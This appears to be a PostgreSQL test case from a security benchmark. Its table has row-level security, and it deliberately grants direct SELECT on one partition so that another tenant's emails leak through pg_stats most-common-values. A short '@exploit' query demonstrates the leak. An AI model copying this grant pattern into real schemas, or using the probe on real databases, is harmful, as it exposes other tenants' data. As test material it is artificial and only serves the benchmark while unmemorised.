-- title: statistics of a granted partition show another tenant's most common values
-- kind: hole
-- expect: D12|A10
-- also: A10 A01
-- object: st.visit_2024
-- logins: app
create role own nologin;
create role app login;
create schema st authorization own;
grant usage on schema st to app;
set role own;
create table st.visit (
  tenant_id int not null,
  day date not null,
  email text not null
) partition by range (day);
create table st.visit_2024 partition of st.visit for values from ('2024-01-01') to ('2025-01-01');
create index on st.visit (tenant_id, day);
alter table st.visit enable row level security;
alter table st.visit force row level security;
create policy visit_tenant on st.visit using (tenant_id = (select nullif(current_setting('st.tenant', true), '')::int));
grant select, insert on st.visit to app;
grant select on st.visit_2024 to app;
reset role;

-- @data
insert into st.visit select 2, '2024-02-02', 'vip@b.example' from generate_series(1, 50);
analyze st.visit_2024;
-- @exploit
select set_config('st.tenant', '1', true);
select 1 from pg_stats where tablename = 'visit_2024' and most_common_vals::text like '%vip@b.example%';
